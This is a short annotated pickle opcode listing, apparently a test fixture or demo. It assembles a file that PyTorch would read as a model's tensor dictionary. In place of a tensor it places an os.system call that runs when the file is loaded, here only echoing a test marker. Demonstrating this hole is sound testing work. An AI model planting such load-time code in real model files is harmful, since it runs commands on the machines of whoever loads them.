# A pickle that runs a command when it is loaded, one opcode per line.
# `make demo` assembles it and puts it where PyTorch looks for the description of
# a model's tensors. The command is a harmless echo.

# The loader expects a dict of tensors:
EMPTY_DICT
BINUNICODE layer.weight

# In the place of a tensor, os.system("echo assay-test-marker"):
GLOBAL os system
MARK
BINUNICODE echo assay-test-marker
TUPLE
REDUCE

SETITEM
STOP
